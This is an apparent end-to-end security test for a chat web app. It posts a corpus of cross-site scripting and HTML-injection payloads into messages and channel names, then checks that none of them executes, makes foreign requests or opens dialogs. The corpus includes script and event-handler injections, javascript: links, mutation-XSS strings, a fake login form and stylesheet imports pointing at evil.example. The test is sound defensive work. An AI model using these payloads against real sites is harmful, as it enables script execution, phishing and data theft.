import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, inject, test } from "vitest";
import { launchChromium } from "../../tools/chromium.ts";
import { granted } from "../flows/kit/rest.ts";
import { message, openChannel } from "./kit/drive.ts";
import { converse, seedGang } from "./kit/seed.ts";
import { signIn, visitor } from "./kit/visitor.ts";

const { url } = inject("stack");
let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser.close();
});

/** Ways to make a page run what somebody wrote; each tries to set `hacked` or to open an alert. */
const CORPUS = [
  "<script>globalThis.hacked=1</script>",
  "<img src=x onerror=globalThis.hacked=1>",
  "<svg onload=globalThis.hacked=1>",
  "<svg><animate onbegin=globalThis.hacked=1 attributeName=x dur=1s>",
  "<details open ontoggle=globalThis.hacked=1>x</details>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  "<a href='javascript:globalThis.hacked=1'>click</a>",
  "[click](javascript:globalThis.hacked=1)",
  "[click](JaVaScRiPt:globalThis.hacked=1)",
  "[click](java&#10;script:globalThis.hacked=1)",
  "[click](data:text/html,<script>globalThis.hacked=1</script>)",
  "[click](vbscript:msgbox)",
  "<javascript:globalThis.hacked=1>",
  "![x](x 'onerror=globalThis.hacked=1')",
  '![x"onerror="globalThis.hacked=1](x)',
  "`<img src=x onerror=globalThis.hacked=1>`",
  "```html\n<img src=x onerror=globalThis.hacked=1>\n```",
  "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=globalThis.hacked=1&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.hacked=1>",
  "<style>@import '//evil.example/x.css'; * { display: none }</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><button>Log in again</button></form>",
  "<input autofocus onfocus=globalThis.hacked=1>",
  "<div style='position:fixed;inset:0;background:red'>gone</div>",
  "<p id=app>clobbered</p><p name=getElementById>",
  "\u202Egnp.exe \u2066<b>x</b>",
  "{{constructor.constructor('globalThis.hacked=1')()}}",
] as const;

test("whatever somebody writes is shown as what they wrote, and runs nothing", async () => {
  const gang = await seedGang({ url, name: "<img src=x onerror=hacked=1>", people: ["<b onclick=hacked=1>Léo</b>"] });
  const { owner, server, channel } = gang;
  await granted(url, "patchChannel", {
    token: owner.token,
    params: { id: channel.id },
    body: { name: "<script>hacked=1</script>", topic: "<img src=x onerror=hacked=1>" },
  });
  await converse(
    url,
    channel.id,
    CORPUS.map((content, index) => [owner, `case ${index}\n\n${content}`] as const),
  );
  const guest = await visitor(browser, { viewport: { width: 1280, height: 6_000 } });
  const foreign: string[] = [];
  guest.page.on("request", (request) => {
    if (new URL(request.url()).host !== new URL(url).host && !/^(data|blob):/.test(request.url())) {
      foreign.push(request.url());
    }
  });
  const dialogs: string[] = [];
  guest.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await signIn(guest, url, owner);
  await openChannel(guest.page, url, server.id, channel.id);
  for (const index of [0, CORPUS.length - 1]) await message(guest.page, `case ${index}`).first().waitFor();
  for (const link of await guest.page.locator("article.message a").all()) {
    const target = await link.evaluate((element) => (element as HTMLAnchorElement).href);
    expect(target).toMatch(/^https?:/);
  }
  const found = await guest.page.evaluate(() => ({
    hacked: "hacked" in globalThis,
    elements: [
      ...document.querySelectorAll(
        "article.message :is(script, iframe, object, embed, form, input:not([disabled]), style, link, meta, base, svg:not(.icon), math, [style]:not(.avatar), [id]:not(.menu))",
      ),
    ].map((element) => element.outerHTML.slice(0, 200)),
    handlers: [...document.querySelectorAll("article.message *")]
      .filter((element) => element.getAttributeNames().some((name) => name.startsWith("on")))
      .map((element) => element.outerHTML.slice(0, 200)),
    title: document.querySelector("main h1")?.textContent,
    app: document.getElementById("app")?.parentElement === document.body,
  }));
  expect(found).toEqual({ hacked: false, elements: [], handlers: [], title: "<script>hacked=1</script>", app: true });
  expect(dialogs).toEqual([]);
  expect(foreign).toEqual([]);
  expect(guest.faults).toEqual([]);
  await guest.context.close();
});
